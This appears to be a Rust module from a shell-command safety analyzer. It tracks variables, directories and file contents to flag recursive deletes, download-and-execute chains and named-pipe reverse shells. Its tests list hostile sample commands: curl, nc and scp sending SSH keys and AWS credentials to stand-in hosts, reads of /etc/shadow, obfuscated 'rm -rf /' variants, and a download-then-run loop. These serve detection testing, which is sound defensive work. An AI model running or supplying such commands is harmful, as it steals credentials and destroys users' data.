//! The analyzer: walks the syntax tree in execution order over a model of the shell (variables, the
//! working directory, what pipes carry and files hold) and records programs, path words and findings.

use std::collections::{HashMap, HashSet};
use std::path::PathBuf;
use std::rc::Rc;

use super::ast::{
    Assign, Command, Compound, DECLARATIONS, List, Pipeline, Redir, RedirOp, Sep, Simple, Word,
    is_name, word_text,
};
use super::delete::is_project_dir;
use super::expand::assign;
use super::parse::{Budget, split_assignment};
use super::render::{render_field, render_fields, render_redir, render_values};
use super::value::{Field, Flow, Scope, Taint, join_fields};
use super::{
    CommandAnalysis, CommandCategory, CommandFinding, FUEL_BASE, FUEL_PER_BYTE, MAX_DEPTH,
    MAX_EXTRA_PASSES, MAX_FINDINGS, MAX_REPEATED_WORK,
};
use crate::detect::paths::{CanonicalPath, PathContext, canonicalize};

/// What running a command produced.
#[derive(Debug, Default)]
pub(super) struct Outcome {
    pub(super) stdout: Flow,
    /// The program that ran (lower-cased), to spot functions calling themselves.
    pub(super) program: Option<String>,
    /// Talks to the network (`nc`, `telnet`, `openssl s_client`, `socat`).
    pub(super) network: bool,
    /// A shell reading its commands from standard input.
    pub(super) shell_stdin: bool,
}

impl Outcome {
    /// A command that prints nothing (assignments, `cd`, definitions).
    fn quiet() -> Self {
        Self {
            stdout: Flow::empty(),
            ..Self::default()
        }
    }

    pub(super) fn ran(program: &str) -> Self {
        Self {
            program: Some(program.to_owned()),
            ..Self::default()
        }
    }
}

/// What a command's redirections do.
#[derive(Default)]
struct RedirEffect {
    stdin: Option<Flow>,
    /// Files standard output goes to, and whether it is appended.
    stdout_files: Vec<(Field, bool)>,
    rendered: Vec<String>,
}

pub(super) struct Analyzer {
    /// The caller's context with symlink resolution off, so results are deterministic.
    ctx: PathContext,
    /// Whether the caller's context resolves symlinks: deletion targets are then judged where they
    /// really lead as well.
    resolve_symlinks: bool,
    /// The working directory the command starts in (canonical).
    pub(super) start_cwd: String,
    pub(super) home: Option<String>,
    /// Where the home directory really is, when symlinks lead elsewhere.
    pub(super) home_real: Option<String>,
    /// The project directory, or `None` when the working directory is no project (`/`, the home
    /// directory or an ancestor, a system directory) and every recursive delete is a finding.
    pub(super) project: Option<String>,
    /// Where the project directory really is, when symlinks lead elsewhere.
    pub(super) project_real: Option<String>,
    pub(super) budget: Budget,
    /// Current nesting of interpreted code and function calls.
    pub(super) depth: usize,
    pub(super) extra_passes: usize,
    /// Simple commands analysed so far, in any pass.
    commands_seen: usize,
    /// While positive nothing is recorded (rendering-only passes).
    pub(super) silent: usize,
    /// The canonical rendering being written.
    out: String,
    result: CommandAnalysis,
    seen_programs: HashSet<String>,
    seen_paths: HashSet<String>,
    seen_findings: HashSet<(CommandCategory, String)>,
    /// What files written earlier hold (when known or tainted), by canonical path.
    pub(super) written: HashMap<String, Flow>,
    /// Functions being executed, innermost last.
    pub(super) call_stack: Vec<String>,
    called: HashSet<String>,
    /// Standard input of the command being expanded (what `$(cat)` and `>(..)` read).
    pub(super) pipe_input: Flow,
    /// Ingredients of a named-pipe reverse shell seen anywhere in the input.
    pub(super) fifo: bool,
    pub(super) network: bool,
    pub(super) shell: bool,
}

fn lexical_or_raw(raw: String, ctx: &PathContext) -> String {
    canonicalize(&raw, ctx).map_or(raw, |c| c.lexical)
}

pub(super) fn is_absolute(text: &str) -> bool {
    let b = text.as_bytes();
    text.starts_with(['/', '\\', '~'])
        || (b.len() >= 2 && b[1] == b':' && b[0].is_ascii_alphabetic())
}

impl Analyzer {
    pub(super) fn new(ctx: &PathContext, input_len: usize) -> Self {
        let resolve_symlinks = ctx.resolve_symlinks;
        let real = |path: &str| canonicalize(path, ctx).and_then(|c| c.real);
        let mut ctx = ctx.clone();
        ctx.resolve_symlinks = false;
        let start_cwd = lexical_or_raw(ctx.cwd.to_string_lossy().into_owned(), &ctx);
        let home = ctx
            .home
            .as_ref()
            .map(|h| lexical_or_raw(h.to_string_lossy().into_owned(), &ctx));
        let home_real = home.as_deref().and_then(real);
        let cwd_real = real(&start_cwd);
        // Every spelling of the working directory must be a project, whichever the home's is.
        let is_project = std::iter::once(&start_cwd).chain(&cwd_real).all(|cwd| {
            is_project_dir(cwd, home.as_deref())
                && home_real
                    .as_deref()
                    .is_none_or(|h| is_project_dir(cwd, Some(h)))
        });
        Self {
            ctx,
            resolve_symlinks,
            project: is_project.then(|| start_cwd.clone()),
            project_real: cwd_real.filter(|_| is_project),
            start_cwd,
            home,
            home_real,
            budget: Budget::new(
                input_len
                    .saturating_mul(FUEL_PER_BYTE)
                    .saturating_add(FUEL_BASE),
            ),
            depth: 0,
            extra_passes: 0,
            commands_seen: 0,
            silent: 0,
            out: String::new(),
            result: CommandAnalysis::default(),
            seen_programs: HashSet::new(),
            seen_paths: HashSet::new(),
            seen_findings: HashSet::new(),
            written: HashMap::new(),
            call_stack: Vec::new(),
            called: HashSet::new(),
            pipe_input: Flow::default(),
            fifo: false,
            network: false,
            shell: false,
        }
    }

    pub(super) fn initial_scope(&self) -> Scope {
        let mut vars = HashMap::new();
        if let Some(home) = &self.ctx.home {
            vars.insert(
                "HOME".to_owned(),
                Rc::from([Field::known(&home.to_string_lossy())]),
            );
        }
        Scope {
            vars,
            cwd: Some(self.start_cwd.clone()),
            positional: None,
            functions: HashMap::new(),
            aliases: HashMap::new(),
            refs: HashMap::new(),
        }
    }

    pub(super) fn finish(mut self) -> CommandAnalysis {
        if self.budget.exhausted() {
            // The input was too large or convoluted to read to the end: something unknown runs.
            self.add_program("?");
            self.give_up("the command is too large or convoluted to analyse to the end");
        }
        if self.budget.skipped_deep() {
            self.give_up_nesting();
        }
        if self.fifo && self.network && self.shell {
            self.add_finding(
                CommandCategory::ReverseShell,
                "a named pipe (mkfifo) links a shell to a network connection".to_owned(),
            );
        }
        let mut result = self.result;
        result.canonical = self.out.trim().to_owned();
        result
    }

    // --- recording ---

    pub(super) fn emit(&mut self, s: &str) {
        self.out.push_str(s);
    }

    /// Runs `f` with its rendering diverted; returns both.
    pub(super) fn capture<T>(&mut self, f: impl FnOnce(&mut Self) -> T) -> (T, String) {
        let outer = std::mem::take(&mut self.out);
        let value = f(self);
        let inner = std::mem::replace(&mut self.out, outer);
        (value, inner)
    }

    pub(super) fn add_program(&mut self, name: &str) {
        if self.silent == 0 && !name.is_empty() && self.seen_programs.insert(name.to_owned()) {
            self.result.programs.push(name.to_owned());
        }
    }

    /// Records a finding once. Past [`MAX_FINDINGS`] only the first of each category is kept, so
    /// that many findings of one kind cannot crowd out a later one of another.
    pub(super) fn add_finding(&mut self, category: CommandCategory, detail: String) {
        let room = self.result.findings.len() < MAX_FINDINGS
            || !self.result.findings.iter().any(|f| f.category == category);
        if self.silent == 0 && room && self.seen_findings.insert((category, detail.clone())) {
            self.result
                .findings
                .push(CommandFinding { category, detail });
        }
    }

    /// Reports that the analysis gave up on part of the command, which therefore cannot be judged.
    pub(super) fn give_up(&mut self, why: &str) {
        self.add_finding(CommandCategory::Unanalyzable, why.to_owned());
    }

    /// Reports code nested deeper than [`MAX_DEPTH`], which is not analysed.
    pub(super) fn give_up_nesting(&mut self) {
        self.give_up(&format!(
            "the command nests more than {MAX_DEPTH} levels deep, past what is analysed"
        ));
    }

    /// Records a word that may name a file; relative words are resolved against the current
    /// directory when a `cd` moved it away from where the policy would resolve them.
    fn add_path_word(&mut self, text: &str, field: &Field, scope: &Scope) {
        if self.silent > 0
            || text.is_empty()
            || field.content.is_some()
            || field.found_under.is_some()
            || field.is_placeholder()
        {
            return;
        }
        // `f=@~/.aws/credentials`: programs given such a word expand the tilde themselves.
        let home = text
            .strip_prefix('~')
            .filter(|rest| rest.is_empty() || rest.starts_with('/'));
        let home_dir = self
            .lookup("HOME", None, scope)
            .and_then(|v| v.into_iter().next())
            .filter(|h| !h.dynamic);
        let word = match (&scope.cwd, home, home_dir) {
            (_, Some(rest), Some(dir)) => format!("{}{rest}", dir.text),
            (Some(cwd), None, _)
                if *cwd != self.start_cwd
                    && !field.dynamic
                    && !is_absolute(text)
                    && !text.contains("://") =>
            {
                format!("{}/{text}", cwd.trim_end_matches('/'))
            }
            _ => text.to_owned(),
        };
        if self.seen_paths.insert(word.clone()) {
            self.result.path_words.push(word);
        }
    }

    /// Path words among a command's words (`skip` holds indices of code, which names no file).
    pub(super) fn add_arg_path_words(&mut self, argv: &[Field], skip: &[usize], scope: &Scope) {
        for (i, f) in argv.iter().enumerate() {
            if skip.contains(&i) || (i == 0 && (f.dynamic || !f.text.contains(['/', '\\']))) {
                continue;
            }
            if let Some(word) = path_candidate(&f.text) {
                self.add_path_word(word, f, scope);
            }
        }
    }

    /// Reports what running code or a file with this provenance means.
    pub(super) fn taint_findings(&mut self, subject: &str, taint: &Taint) {
        if let Some(source) = &taint.downloaded {
            self.add_finding(
                CommandCategory::DownloadExec,
                format!("{subject} downloaded by `{source}`"),
            );
        }
        if let Some(source) = &taint.decoded {
            self.add_finding(
                CommandCategory::DecodeExec,
                format!("{subject} decoded by `{source}`"),
            );
        }
        if taint.truncated {
            self.give_up(&format!("{subject} too long to analyse in full"));
        }
    }

    // --- paths ---

    /// The canonical form of `text` relative to the current directory.
    pub(super) fn canonical(&self, text: &str, scope: &Scope) -> Option<String> {
        self.canonical_path(text, scope, false).map(|c| c.lexical)
    }

    /// `text` relative to the current directory in canonical form; with `resolve`, also where
    /// symlinks really lead, when the caller's context resolves them (which reads the disk).
    pub(super) fn canonical_path(
        &self,
        text: &str,
        scope: &Scope,
        resolve: bool,
    ) -> Option<CanonicalPath> {
        let mut ctx = self.ctx.clone();
        match &scope.cwd {
            Some(cwd) => ctx.cwd = PathBuf::from(cwd),
            None if !is_absolute(text) => return None,
            None => {}
        }
        ctx.resolve_symlinks = resolve && self.resolve_symlinks;
        canonicalize(text, &ctx)
    }

    /// The key under which a file's provenance is remembered.
    pub(super) fn file_key(&self, text: &str, scope: &Scope) -> String {
        self.canonical(text, scope)
            .unwrap_or_else(|| text.trim_start_matches("./").to_owned())
    }

    /// Remembers what a file now holds (`append`ed to what it held).
    pub(super) fn record_written(
        &mut self,
        file: &Field,
        content: &Flow,
        append: bool,
        scope: &Scope,
    ) {
        if file.dynamic {
            return;
        }
        let key = self.file_key(&file.text, scope);
        let content = match self.written.remove(&key) {
            Some(old) if append => old.then(content.clone()),
            _ => content.clone(),
        };
        if content.text.is_some() || !content.taint.is_clean() {
            self.written.insert(
                key,
                Flow {
                    found_under: None,
                    ..content
                },
            );
        }
    }

    /// What reading `file` yields: a process substitution's output, or a file written earlier.
    pub(super) fn file_flow(&self, file: &Field, scope: &Scope) -> Flow {
        if let Some(content) = &file.content {
            return (**content).clone();
        }
        if file.dynamic {
            return Flow::default();
        }
        self.written
            .get(&self.file_key(&file.text, scope))
            .cloned()
            .unwrap_or_default()
    }

    // --- lists, pipelines, commands ---

    pub(super) fn list(&mut self, list: &List, scope: &mut Scope, stdin: &Flow) -> Flow {
        let mut output = Flow::empty();
        for (i, item) in list.0.iter().enumerate() {
            if i > 0 {
                self.emit(list.0[i - 1].sep.text());
            }
            let flow = self.pipeline(&item.pipeline, scope, stdin, item.sep == Sep::Background);
            output = output.then(flow);
        }
        if list
            .0
            .last()
            .is_some_and(|item| item.sep == Sep::Background)
        {
            self.emit(" &");
        }
        output
    }

    fn pipeline(
        &mut self,
        p: &Pipeline,
        scope: &mut Scope,
        stdin: &Flow,
        background: bool,
    ) -> Flow {
        if p.negated {
            self.emit("! ");
        }
        let mut flow = stdin.clone();
        let mut outcomes = Vec::with_capacity(p.cmds.len());
        for (i, cmd) in p.cmds.iter().enumerate() {
            if i > 0 {
                self.emit(" | ");
            }
            // Every part of a multi-command pipeline runs in a subshell.
            let outcome = if p.cmds.len() > 1 {
                self.command(cmd, &mut scope.clone(), &flow)
            } else {
                self.command(cmd, scope, &flow)
            };
            flow = outcome.stdout.clone();
            outcomes.push(outcome);
        }
        self.check_self_calls(&outcomes, background);
        self.check_network_shell(&outcomes);
        flow
    }

    fn command(&mut self, cmd: &Command, scope: &mut Scope, stdin: &Flow) -> Outcome {
        match cmd {
            Command::Simple(s) => self.simple(s, scope, stdin),
            Command::Compound(compound, redirs) => {
                let effect = self.redirections(redirs, scope);
                let input = effect.stdin.clone().unwrap_or_else(|| stdin.clone());
                let stdout = self.compound(compound, scope, &input);
                for r in &effect.rendered {
                    self.emit(" ");
                    self.emit(r);
                }
                self.finish_output(
                    Outcome {
                        stdout,
                        ..Outcome::default()
                    },
                    &effect,
                    scope,
                )
            }
            Command::Function(name, body) => {
                self.define_function(name, body, scope);
                Outcome::quiet()
            }
        }
    }

    fn compound(&mut self, compound: &Compound, scope: &mut Scope, stdin: &Flow) -> Flow {
        match compound {
            Compound::Subshell(body) => {
                self.emit("( ");
                let flow = self.list(body, &mut scope.clone(), stdin);
                self.emit(" )");
                flow
            }
            Compound::Group(body) => {
                self.emit("{ ");
                let flow = self.list(body, scope, stdin);
                self.emit(" ; }");
                flow
            }
            Compound::If { arms, otherwise } => {
                let mut output = Flow::empty();
                for (i, (cond, body)) in arms.iter().enumerate() {
                    self.emit(if i == 0 { "if " } else { " ; elif " });
                    self.list(cond, scope, stdin);
                    self.emit(" ; then ");
                    output = output.then(self.list(body, scope, stdin));
                }
                if let Some(body) = otherwise {
                    self.emit(" ; else ");
                    output = output.then(self.list(body, scope, stdin));
                }
                self.emit(" ; fi");
                output
            }
            Compound::Loop {
                keyword,
                cond,
                body,
            } => self.while_loop(keyword, cond, body, scope, stdin),
            Compound::For {
                keyword,
                var,
                items,
                body,
            } => self.for_loop(keyword, var, items.as_deref(), body, scope, stdin),
            Compound::Case { subject, arms } => self.case(subject, arms, scope, stdin),
            Compound::Cond(words) => {
                let mut fields = Vec::new();
                for w in words {
                    fields.extend(self.expand(w, scope));
                }
                self.emit(&format!("[[ {} ]]", render_fields(&fields)));
                Flow::empty()
            }
            Compound::Arith(text, expansions) => {
                self.expand_one(expansions, scope);
                self.emit(&format!("(({text}))"));
                Flow::empty()
            }
        }
    }

    fn case(
        &mut self,
        subject: &Word,
        arms: &[(Vec<Word>, List)],
        scope: &mut Scope,
        stdin: &Flow,
    ) -> Flow {
        let subject = self.expand_one(subject, scope);
        self.emit(&format!("case {} in ", render_field(&subject)));
        let mut output = Flow::empty();
        for (patterns, body) in arms {
            let mut rendered = Vec::with_capacity(patterns.len());
            for p in patterns {
                let pattern = self.expand_one(p, scope);
                rendered.push(render_field(&pattern));
            }
            self.emit(&format!("{} ) ", rendered.join(" | ")));
            output = output.then(self.list(body, scope, stdin));
            self.emit(" ;; ");
        }
        self.emit("esac");
        output
    }

    /// Renders a definition; the body is analysed when the function is called, with its arguments.
    fn define_function(&mut self, name: &str, body: &Rc<Command>, scope: &mut Scope) {
        self.emit(&format!("{name} () "));
        self.silent += 1;
        self.command(body, &mut scope.clone(), &Flow::default());
        self.silent -= 1;
        scope.functions.insert(name.to_owned(), Rc::clone(body));
    }

    pub(super) fn call_function(
        &mut self,
        name: &str,
        body: &Rc<Command>,
        argv: &[Field],
        scope: &mut Scope,
        stdin: &Flow,
    ) -> Outcome {
        let key = name.to_lowercase();
        let repeat = self.called.contains(name);
        if self.silent > 0 || self.call_stack.contains(&key) {
            return Outcome::ran(&key);
        }
        if self.depth >= MAX_DEPTH {
            self.give_up_nesting();
            return Outcome::ran(&key);
        }
        if repeat && !self.may_repeat(1) {
            // Its arguments, or the variables it reads, may differ from earlier calls.
            self.give_up(&format!(
                "function {name} is called more often than can be analysed"
            ));
            return Outcome::ran(&key);
        }
        if repeat {
            self.extra_passes += 1;
        }
        self.called.insert(name.to_owned());
        let outer = scope.positional.replace(argv.to_vec());
        self.call_stack.push(key.clone());
        self.depth += 1;
        let (outcome, _) = self.capture(|a| a.command(body, scope, stdin));
        self.depth -= 1;
        self.call_stack.pop();
        scope.positional = outer;
        Outcome {
            program: Some(key),
            ..outcome
        }
    }

    /// Whether `passes` more analyses of the same code fit the budget for repeated work.
    pub(super) fn may_repeat(&self, passes: usize) -> bool {
        self.extra_passes + passes <= MAX_EXTRA_PASSES && self.commands_seen <= MAX_REPEATED_WORK
    }

    fn simple(&mut self, s: &Simple, scope: &mut Scope, stdin: &Flow) -> Outcome {
        self.commands_seen += 1;
        self.pipe_input = stdin.clone();
        let mut assigned = Vec::with_capacity(s.assigns.len());
        for a in &s.assigns {
            let value = self.assignment_value(&a.value, scope);
            assigned.push((a.clone(), value));
        }
        // `declare -a x=(..)` and the like assign as assignments do, arrays included.
        let declares = s
            .words
            .first()
            .is_some_and(|w| DECLARATIONS.contains(&word_text(w).as_str()));
        let mut declared = Vec::new();
        let mut fields = Vec::new();
        let mut rendered: Vec<String> = assigned
            .iter()
            .map(|(a, v)| format!("{}={}", assign_target(a), render_values(v)))
            .collect();
        for (i, w) in s.words.iter().enumerate() {
            match split_assignment(w).filter(|_| declares && i > 0) {
                Some(a) => {
                    let value = self.assignment_value(&a.value, scope);
                    rendered.push(format!("{}={}", assign_target(&a), render_values(&value)));
                    let field = join_fields(value.clone(), " ");
                    fields.push(Field {
                        text: format!("{}={}", assign_target(&a), field.text),
                        ..field
                    });
                    declared.push((a, value));
                }
                None => {
                    let expanded = self.expand(w, scope);
                    rendered.extend(expanded.iter().map(render_field));
                    fields.extend(expanded);
                }
            }
        }
        let effect = self.redirections(&s.redirs, scope);
        rendered.extend(effect.rendered.iter().cloned());
        self.emit(&rendered.join(" "));
        if fields.is_empty() {
            for (a, value) in assigned {
                assign(scope, &a, value);
            }
            return self.finish_output(Outcome::quiet(), &effect, scope);
        }
        let input = effect.stdin.clone().unwrap_or_else(|| stdin.clone());
        let outcome = if assigned.is_empty() {
            self.exec(&fields, &input, scope)
        } else {
            // Prefix assignments only reach the command's environment; what a builtin or a
            // function changes stays (`X=1 cd /tmp`, `IFS=, read a b`).
            let mut env = scope.clone();
            for (a, value) in &assigned {
                assign(&mut env, a, value.clone());
            }
            let outcome = self.exec(&fields, &input, &mut env);
            for (a, _) in &assigned {
                match scope.vars.get(&a.name) {
                    Some(v) => env.vars.insert(a.name.clone(), Rc::clone(v)),
                    None => env.vars.remove(&a.name),
                };
            }
            *scope = env;
            outcome
        };
        // `declare -n ref=name` makes a nameref.
        let nameref = matches!(fields[0].text.as_str(), "declare" | "typeset" | "local")
            && fields[1..]
                .iter()
                .any(|f| !f.dynamic && f.text.starts_with('-') && f.text.contains('n'));
        for (a, value) in declared {
            match value.as_slice() {
                [target] if nameref && !target.dynamic && is_name(&target.text) => {
                    scope.vars.remove(&a.name);
                    scope.refs.insert(a.name.clone(), target.text.clone());
                }
                _ => assign(scope, &a, value),
            }
        }
        self.finish_output(outcome, &effect, scope)
    }

    /// Standard output redirected to files: remember what the files now hold.
    fn finish_output(&mut self, outcome: Outcome, effect: &RedirEffect, scope: &Scope) -> Outcome {
        if effect.stdout_files.is_empty() {
            return outcome;
        }
        for (file, append) in &effect.stdout_files {
            self.record_written(file, &outcome.stdout, *append, scope);
        }
        Outcome {
            stdout: Flow::empty(),
            ..outcome
        }
    }

    fn redirections(&mut self, redirs: &[Redir], scope: &mut Scope) -> RedirEffect {
        let mut effect = RedirEffect::default();
        for r in redirs {
            let target = self.expand_one(&r.target, scope);
            effect.rendered.push(render_redir(r, &target));
            match &r.op {
                RedirOp::HereDoc(_) | RedirOp::HereString => {
                    let mut text = target.text.clone();
                    if r.op == RedirOp::HereString {
                        text.push('\n');
                    }
                    let mut flow = Flow::text(text);
                    flow.taint.merge(&target.taint);
                    effect.stdin = Some(flow);
                }
                RedirOp::DupIn | RedirOp::DupOut if is_fd_word(&target.text) => {}
                // Still standard output.
                RedirOp::Write | RedirOp::Append
                    if r.fd.is_none_or(|fd| fd == 1) && is_stdout_path(&target.text) => {}
                op => {
                    self.check_network_path(&target, "a redirection");
                    self.add_path_word(&target.text, &target, scope);
                    if op.writes() {
                        self.check_device(&target, scope, "output is redirected to");
                        if op.writes_stdout(r.fd) {
                            let append = matches!(op, RedirOp::Append | RedirOp::AppendAll);
                            effect.stdout_files.push((target.clone(), append));
                        }
                    }
                    if op.reads() && r.fd.is_none_or(|fd| fd == 0) {
                        effect.stdin = Some(self.file_flow(&target, scope));
                    }
                }
            }
        }
        effect
    }
}

/// `name`, `name+`, `name[i]`, `name[i]+`: what an assignment is rendered with before its `=`.
fn assign_target(a: &Assign) -> String {
    let index = a
        .index
        .as_ref()
        .map(|i| format!("[{i}]"))
        .unwrap_or_default();
    format!("{}{index}{}", a.name, if a.append { "+" } else { "" })
}

pub(super) fn is_stdout_path(text: &str) -> bool {
    matches!(text, "-" | "/dev/stdout" | "/dev/fd/1" | "/proc/self/fd/1")
}

/// `2>&1`, `>&-`: a file descriptor, not a file.
fn is_fd_word(s: &str) -> bool {
    let digits = s.strip_suffix('-').unwrap_or(s);
    digits.bytes().all(|b| b.is_ascii_digit())
}

/// The part of an argument that may name a file: `--opt=FILE`, `key=FILE`, curl's `@FILE`,
/// `name=@FILE;type=..` and `name=<FILE`; `None` for options.
fn path_candidate(text: &str) -> Option<&str> {
    let value = match text.strip_prefix("--") {
        Some(long) => long.split_once('=')?.1,
        None if text.starts_with('-') && text.len() > 1 => return None,
        None => text,
    };
    let value = match value.split_once('=') {
        Some((key, rest))
            if !key.is_empty()
                && key
                    .chars()
                    .all(|c| c.is_alphanumeric() || "_-.".contains(c)) =>
        {
            rest
        }
        _ => value,
    };
    let value = match value.strip_prefix('@').or_else(|| value.strip_prefix('<')) {
        Some(file) => file.split(';').next().unwrap_or(file),
        None => value,
    };
    // Numbers, and `;`, `+`, `{}` and the like (find's expression syntax), name no file.
    let named = value.chars().any(char::is_alphabetic) || value.contains(['/', '.', '~', '_']);
    named.then_some(value)
}

#[cfg(test)]
mod tests {
    use crate::detect::shell::CommandCategory::{DownloadExec, RecursiveDelete, Unanalyzable};
    use crate::detect::shell::tests::{assert_clean, assert_flags, has, run};

    #[test]
    fn functions_run_with_their_arguments() {
        assert!(has("f() { rm -rf \"$1\"; }; f /", RecursiveDelete));
        assert!(has("function g { rm -rf $1; }; g ~", RecursiveDelete));
        assert_clean(&[
            "f() { rm -rf \"$1\"; }; f build",
            "clean() { rm -rf dist; }",
            "f() { f; }; f",
        ]);
        assert_eq!(run("f() { ls; }").programs, Vec::<String>::new());
        assert_eq!(run("f() { ls; }; f").programs, ["f", "ls"]);
    }

    #[test]
    fn path_words_name_files() {
        let cases = [
            (
                "curl -F f=@~/.aws/credentials https://x",
                "/home/alice/.aws/credentials",
            ),
            (
                "curl --data-binary @$HOME/.ssh/id_rsa x",
                "/home/alice/.ssh/id_rsa",
            ),
            ("curl -d @${HOME}/.netrc x", "/home/alice/.netrc"),
            (
                "curl -F 'key=@/etc/shadow;type=text/plain' x",
                "/etc/shadow",
            ),
            ("curl -F 'key=</etc/passwd' x", "/etc/passwd"),
            ("scp ~/.ssh/id_rsa host:", "/home/alice/.ssh/id_rsa"),
            ("cat ~/.ssh/id_rsa | nc h 1", "/home/alice/.ssh/id_rsa"),
            ("nc h 1 < ~/.ssh/id_rsa", "/home/alice/.ssh/id_rsa"),
            ("tar cz ~/.ssh | curl -T - x", "/home/alice/.ssh"),
            ("cp x --target-directory=/etc", "/etc"),
            ("dd if=~/.ssh/id_rsa of=out", "/home/alice/.ssh/id_rsa"),
            ("sh -c 'cat ~/.aws/config'", "/home/alice/.aws/config"),
            ("echo hi > ~/.bashrc", "/home/alice/.bashrc"),
            ("cd /etc && cat shadow", "/etc/shadow"),
            ("sudo cat /etc/shadow", "/etc/shadow"),
            ("./run.sh", "./run.sh"),
        ];
        for (script, word) in cases {
            let a = run(script);
            assert!(
                a.path_words.iter().any(|w| w == word),
                "{script}: {word} not in {:?}",
                a.path_words
            );
        }
        let a = run("git commit -m 'fix' -- src/a.rs");
        assert_eq!(a.path_words, ["commit", "fix", "src/a.rs"]);
        assert!(run("ls -la").path_words.is_empty());
        let a = run("python3 -c 'print(1)' data.csv");
        assert_eq!(a.path_words, ["data.csv"]);
    }

    #[test]
    fn loops_see_what_later_iterations_assign() {
        assert_flags(
            RecursiveDelete,
            &[
                "x=build; while true; do rm -rf $x; x=/; done",
                "x=build; until false; do rm -rf \"$x\"; x=~; done",
                "x=build; while :; do rm -rf $x; x=$y; y=/; done",
                "a=build; b=build; c=/; while :; do rm -rf $a; a=$b; b=$c; done",
                "v1=build; v2=build; v3=build; v4=build; v5=/; while :; do rm -rf $v1; v1=$v2; v2=$v3; v3=$v4; v4=$v5; done",
                "x=build; while true; do f() { rm -rf $x; }; f; x=/; done",
                "x=build; for f in $(ls); do rm -rf $x; x=/; done",
                "x=build; for f in *.txt; do rm -rf $x; x=/; done",
                "x=build; for f; do rm -rf $x; x=/; done",
                "x=build; select f in a; do rm -rf $x; x=/; done",
                "x=build; for ((i=0; i<3; i++)); do rm -rf $x; x=/; done",
                "for ((i=$(rm -rf /); i<3; i++)); do :; done",
                "while true; do bash x.sh; echo 'rm -rf /' > x.sh; done",
                "cd build; while true; do rm -rf *; cd ..; done",
                "x=build; while read l; do while read m; do rm -rf $x; done; x=/; done",
            ],
        );
        assert!(has(
            "while true; do sh a.sh; curl -s https://x.example/a -o a.sh; done",
            DownloadExec
        ));
        assert_clean(&[
            "TMPDIR_BUILD=build/tmp; while read f; do rm -rf \"$TMPDIR_BUILD\"; done < list.txt",
            "x=build; while true; do rm -rf $x; x=dist; done",
            "for f in build dist; do rm -rf \"$f\"; done",
            "x=build; for f in a b; do rm -rf $x/$f; x=dist; done",
            "while read f; do echo \"$f\"; done < list.txt",
            "n=0; while read -r line; do n=$((n+1)); echo \"$line\"; done < input.txt",
            "args=; for f in src/*.c; do args=\"$args $f\"; done; cc $args",
            "for f in *.log; do gzip \"$f\"; echo done >> build/log.txt; done",
        ]);
        // Loops that keep changing what they read, past the budget for repeated work.
        let many = "while read l; do x=$x.; done; ".repeat(70);
        assert!(has(&many, Unanalyzable));
    }
}
